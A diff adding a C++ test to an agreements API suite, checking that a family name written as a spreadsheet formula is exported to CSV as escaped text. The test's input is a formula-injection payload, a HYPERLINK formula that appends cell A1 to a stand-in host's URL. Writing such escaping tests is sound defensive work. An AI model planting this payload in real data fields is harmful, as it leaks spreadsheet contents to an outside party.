@@ -175,6 +175,20 @@ class ApiActSignatures : public ApiSuite<ApiActSignatures> {
   TempDir dir_;
 };
 
+// A name typed as a formula reaches the desk's spreadsheet as text.
+TEST_F(ApiActSignatures, AFormulaInAFamilysNameIsExportedAsText) {
+  const std::string name = "=HYPERLINK(\"http://x.example/?\"&A1;\"Смирнова\")";
+  const auto id = Draft(name, "ФМ-0001");
+  ASSERT_EQ(staff_->Post(Path(id, "/activate")).status, 201);
+  auto csv = staff_->Get("/api/v1/exports/agreements.csv?from=2000-01-01&to=2100-01-01");
+  ASSERT_EQ(csv.status, 200) << csv.raw;
+  EXPECT_NE(csv.raw.find("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Смирнова\"\")\""),
+            std::string::npos)
+      << csv.raw.substr(0, 2000);
+  EXPECT_EQ(csv.raw.find("\"=HYPERLINK"), std::string::npos);
+  EXPECT_EQ(csv.raw.find(";=HYPERLINK"), std::string::npos);
+}
+
 TEST_F(ApiActSignatures, CapturedSignaturesAreDrawnOnTheActTheyWereGivenFor) {
   const auto signed_id = Draft("Экранова Мария Петровна", "ЭП-0001");
   ASSERT_EQ(Sign(signed_id, "occasion=handover&signer=family").status, 201);
